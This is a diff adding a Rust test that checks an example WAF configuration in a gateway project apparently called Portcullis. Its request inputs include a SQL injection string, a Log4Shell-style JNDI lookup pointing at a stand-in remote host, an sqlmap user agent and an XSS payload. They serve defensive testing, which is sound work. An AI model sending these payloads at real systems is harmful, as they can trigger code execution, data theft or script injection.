@@ -217,3 +217,32 @@ fn bot_control_labels_crawlers_without_blocking_them() {
     assert!(share >= 75.0, "only {share:.1}% of crawler user agents got a category label");
     eprintln!("bot_control: {share:.1}% of {} crawler user agents labelled with a category", crawlers.len());
 }
+
+/// `examples/waf.yaml` does what its comments say.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_waf_example_does_what_it_says() {
+    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..");
+    let example = std::fs::read_to_string(root.join("examples/waf.yaml")).unwrap();
+    // Its list file is relative to the repository's root; the gateway runs elsewhere here.
+    let list = root.join("examples/waf/blocked-ips.txt").canonicalize().unwrap();
+    let gw = Gw::start(&example.replace("examples/waf/blocked-ips.txt", &list.display().to_string()));
+    let client = gw.client();
+    let get = |path: &'static str, header: (&'static str, &'static str)| {
+        let req = client.get(gw.url(path)).header(header.0, header.1);
+        async move {
+            let r = req.send().await.unwrap();
+            (r.status().as_u16(), r.headers().get("x-portcullis-waf-action").is_some())
+        }
+    };
+    let ua = ("user-agent", "curl/8.5.0");
+    assert_eq!(get("/shop/items?q=shoes", ua).await, (200, false));
+    assert_eq!(get("/shop/items?q=1'%20OR%20'1'='1", ua).await.0, 403);
+    assert_eq!(get("/shop/items", ("x-api-version", "${jndi:ldap://e.example/a}")).await.0, 403);
+    assert_eq!(get("/shop/items", ("user-agent", "sqlmap/1.7")).await.0, 403);
+    assert_eq!(get("/shop/login", ua).await, (202, true));
+    let html = r#"{"post":{"html":"<img src=x onerror=alert(1)>"}}"#;
+    let post =
+        |path: &'static str| client.post(gw.url(path)).header("content-type", "application/json").body(html).send();
+    assert_eq!(post("/shop/posts").await.unwrap().status(), 201, "the excluded field on its route");
+    assert_eq!(post("/shop/items").await.unwrap().status(), 403, "the same body elsewhere");
+}
